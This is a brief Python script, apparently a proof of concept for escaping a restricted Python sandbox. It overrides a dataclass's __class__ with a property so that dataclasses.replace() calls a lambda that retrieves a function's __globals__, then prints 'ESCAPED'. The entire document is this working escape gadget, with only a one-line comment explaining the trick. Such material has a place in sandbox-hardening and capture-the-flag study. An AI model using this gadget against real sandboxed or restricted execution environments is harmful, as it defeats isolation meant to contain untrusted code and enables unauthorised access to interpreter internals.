# Replace() calls a class's constructor by the instance's claim.
import dataclasses, heapq
@dataclasses.dataclass
class D:
    f: object
    __class__ = property(lambda self: lambda **k: getattr(k["f"], "__globals__"))
print("ESCAPED", dataclasses.replace(D(heapq.merge)))
